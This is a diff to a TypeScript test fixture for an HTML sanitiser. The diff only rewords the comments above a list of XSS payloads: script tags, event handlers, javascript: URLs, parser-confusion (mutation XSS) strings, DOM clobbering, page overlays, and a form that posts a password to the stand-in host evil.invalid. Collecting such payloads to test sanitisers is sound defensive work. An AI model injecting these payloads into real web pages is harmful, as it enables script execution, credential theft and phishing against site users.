@@ -1,9 +1,10 @@
 /**
- * HTML that tries to run something, to send something elsewhere, or to draw over the page: one line for each way, as the test
- * sets of sanitisers and OWASP's cheat sheets know them. What runs calls `hostile(…)`; what loads asks for `evil.invalid`.
+ * HTML that tries to run code, to send data elsewhere, or to cover the page: one line per technique, collected from
+ * sanitisers' test suites and OWASP's cheat sheets. Code that runs calls `hostile(…)`; anything that loads requests
+ * `evil.invalid`.
  */
 export const hostileHtml: readonly string[] = [
-  // Scripts, in all their spellings.
+  // Scripts in every spelling.
   '<script>hostile(1)</script>',
   '<SCRIPT SRC=https://evil.invalid/a.js></SCRIPT>',
   '<script/x>hostile(2)</script>',
@@ -17,7 +18,7 @@ export const hostileHtml: readonly string[] = [
   '<svg><script>hostile(9)</script></svg>',
   '<svg><script href="data:text/javascript,hostile(10)"/></svg>',
   '<svg><script xlink:href="https://evil.invalid/x.js"></script></svg>',
-  // Handlers of events.
+  // Event handlers.
   '<img src=x onerror=hostile(11)>',
   '<img src="/images/articles/monsoon-ticks-and-tick-fever.svg" onload="hostile(12)">',
   '<img/src=x/onerror=hostile(13)>',
@@ -38,7 +39,7 @@ export const hostileHtml: readonly string[] = [
   '<svg><animate onbegin=hostile(30) attributeName=x dur=1s></svg>',
   '<div style="animation-name:x" onanimationstart="hostile(31)">A</div>',
   '<p onpointerrawupdate=hostile(32) onbeforetoggle=hostile(33) popover id=p>B</p>',
-  // Addresses that are programs.
+  // URLs that run code.
   '<a href="javascript:hostile(34)">Tap</a>',
   '<a href="JaVaScRiPt:hostile(35)">Tap</a>',
   '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hostile(36)">Tap</a>',
@@ -71,7 +72,7 @@ export const hostileHtml: readonly string[] = [
   '<button formaction="javascript:hostile(54)">Send</button>',
   '<form action="https://evil.invalid/" id=f><input name=password type=password></form><button form=f>Go on</button>',
   '<isindex action="javascript:hostile(55)" type=image>',
-  // Documents within, and what changes the document around.
+  // Nested documents, and elements that change the surrounding one.
   '<iframe src="javascript:hostile(56)"></iframe>',
   '<iframe srcdoc="&lt;script&gt;parent.hostile(57)&lt;/script&gt;"></iframe>',
   '<object data="javascript:hostile(58)"></object>',
@@ -94,7 +95,7 @@ export const hostileHtml: readonly string[] = [
   '<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.invalid/c.png)">Over all</p>',
   '<p style="width:expression(hostile(59));behavior:url(https://evil.invalid/d.htc)">C</p>',
   '<table background="https://evil.invalid/t.png"><tr><td background="https://evil.invalid/u.png">D</td></tr></table>',
-  // What parsers read in two ways.
+  // Markup that parsers interpret differently.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile(60)&gt;">',
   '<svg></p><style><a id="</style><img src=1 onerror=hostile(61)>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile(62)>',
@@ -114,11 +115,11 @@ export const hostileHtml: readonly string[] = [
   '<div data-card="post" data-id="00000000-0000-4000-8000-000000000000"><img src=x onerror=hostile(76)></div>',
   '<div data-card="constructor" data-id="00000000-0000-4000-8000-000000000000">G</div>',
   '<constructor></constructor><__proto__ onclick=hostile(77)>H</__proto__>',
-  // Names that take the place of what programs ask for.
+  // Names that shadow DOM properties.
   '<img name="getElementById" src="/images/articles/monsoon-ticks-and-tick-fever.svg"><a id="location" href="/x">I</a>',
   '<form id="body"><input name="firstChild"></form>',
   '<p id="root" class="fixed inset-0" is="evil-element" slot="x">J</p>',
-  // What isn't closed.
+  // Unclosed markup.
   '<img src="x" onerror="hostile(78)"',
   '<a href="javascript:hostile(79)',
   '<p title="',
